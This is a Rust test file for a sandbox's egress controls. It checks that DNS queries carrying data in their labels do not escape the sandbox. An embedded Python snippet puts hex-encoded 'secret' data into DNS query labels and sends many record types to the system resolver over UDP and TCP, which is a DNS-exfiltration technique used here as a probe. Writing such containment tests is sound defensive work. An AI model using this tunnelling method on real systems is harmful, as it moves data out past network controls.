//! Questions for names carry nothing out.

use super::{Ground, SETTING, Setting};

/// Questions of every type with data in their labels, to the name server of resolv.conf, by UDP and
/// by TCP.
const QUESTIONS: &str = "
    server = next(line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver'))
    data = [b'secret'.hex().encode(), (b'data' * 16)[:63]]
    answers = 0
    for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 64, 65, 99, 255, 257, 65280):
        labels = data + [label.encode() for label in host.split('.')]
        name = b''.join(bytes([len(label)]) + label for label in labels) + b'\\0'
        query = b'\\x12\\x34\\x01\\x00\\x00\\x01' + bytes(6) + name + struct.pack('!HH', kind, 1)
        with socket.socket(type=socket.SOCK_DGRAM) as one:
            one.settimeout(5); one.sendto(query, (server, 53))
            answers += one.recv(512)[:2] == query[:2]
        with socket.create_connection((server, 53), 5) as one:
            one.sendall(struct.pack('!H', len(query)) + query)
            answers += one.recv(512)[2:4] == query[:2]
    with contextlib.suppress(OSError):
        socket.getaddrinfo('more.' + host, port)
    return answers";

/// Below a name that isn't granted, below one that is, and below one with everything below it.
const APEXES: &[&str] = &["tunnel.test", "allowed.test", "wild.test", "test"];

#[test]
fn data_in_labels_stays_inside() {
    let setting = Setting {
        manifest: "egress = [\"allowed.test:8443\", \"*.wild.test:8443\"]",
        ..SETTING
    };
    let Some(mut ground) = Ground::new("egress::data_in_labels_stays_inside", &setting) else {
        return;
    };
    for apex in APEXES {
        // All of them arrive without pinfold, and are answered in both.
        let control = ground.bare(QUESTIONS, apex, 8443, Some("dns 736563726574.datadata"));
        assert_eq!(control, "ok: 34", "control: {apex}");
        let (answer, news) = ground.boxed(QUESTIONS, apex, 8443);
        assert_eq!(answer, "ok: 34", "{apex}");
        assert!(news.is_empty(), "{apex}: {news:#?}");
    }
    let asked: Vec<String> = ground
        .everything()
        .into_iter()
        .filter(|contact| contact.starts_with("dns ") && !contact.starts_with("dns allowed.test "))
        .collect();
    assert!(asked.is_empty(), "{asked:#?}");
}
